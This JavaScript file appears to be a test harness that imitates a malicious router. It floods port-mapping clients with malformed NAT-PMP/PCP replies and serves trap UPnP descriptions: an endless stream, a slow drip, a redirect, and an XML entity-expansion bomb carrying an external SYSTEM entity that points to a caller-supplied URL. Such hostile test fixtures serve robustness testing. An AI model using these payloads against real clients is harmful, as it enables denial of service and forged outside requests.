// A router that means harm, in plain JavaScript so that it starts quickly in a namespace: answers every question for a port
// mapping, none of them honestly. Prints a line for each kind of request that it saw.
//
//   node hostile-router.mjs LAN_ADDRESS ELSEWHERE_URL

import { createSocket } from 'node:dgram'
import { createServer } from 'node:http'

const [lan = '', elsewhere = ''] = process.argv.slice(2)
const seen = new Set()
/** @param {string} what */
const note = (what) => {
  if (!seen.has(what)) console.log(what)
  seen.add(what)
}

// NAT-PMP and PCP: twenty answers to each question, of wrong lengths, versions and nonces, and refusals.
const small = createSocket('udp4')
small.on('message', (message, from) => {
  note(`asked by version ${message[0]}`)
  for (let i = 0; i < 20; i += 1) {
    const junk = Buffer.alloc(i * 75)
    junk[0] = i % 2 === 0 ? 2 : 0
    junk[1] = 0x80 | (i % 3)
    small.send(junk, from.port, from.address, () => {})
  }
})
small.bind(5351, lan, () => console.log('small ready'))

// UPnP: four descriptions, each another trap. What they all lead to is a device of more traps.
const modes = ['huge', 'slow', 'redirect', 'bomb']
const search = createSocket('udp4')
search.on('message', (_, from) => {
  note('searched for')
  for (const mode of [...modes, ...modes]) {
    const answer = `HTTP/1.1 200 OK\r\nST: urn:schemas-upnp-org:device:InternetGatewayDevice:1\r\nLOCATION: http://10.77.0.10:5000/${mode}\r\n\r\n`
    search.send(answer, from.port, from.address, () => {})
  }
  search.send(Buffer.alloc(60_000, 'x'), from.port, from.address, () => {})
})
search.bind(1900, () => console.log('search ready'))

const big = Buffer.alloc(64 * 1024, '<a>')
createServer((request, response) => {
  const mode = (request.url ?? '').slice(1)
  note(`fetched ${mode}`)
  response.on('error', () => {})
  switch (mode) {
    case 'huge': {
      const more = () => {
        while (response.write(big)) if (response.destroyed) return
      }
      response.on('drain', more)
      more()
      break
    }
    case 'slow': {
      response.write('<root>')
      const timer = setInterval(() => response.write(' '), 100)
      response.on('close', () => clearInterval(timer))
      break
    }
    case 'redirect':
      response.writeHead(302, { Location: elsewhere }).end()
      break
    default:
      response.end(
        `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY x SYSTEM "${elsewhere}">]><root>&b;&x;</root>`,
      )
  }
}).listen(5000, lan, () => console.log('http ready'))
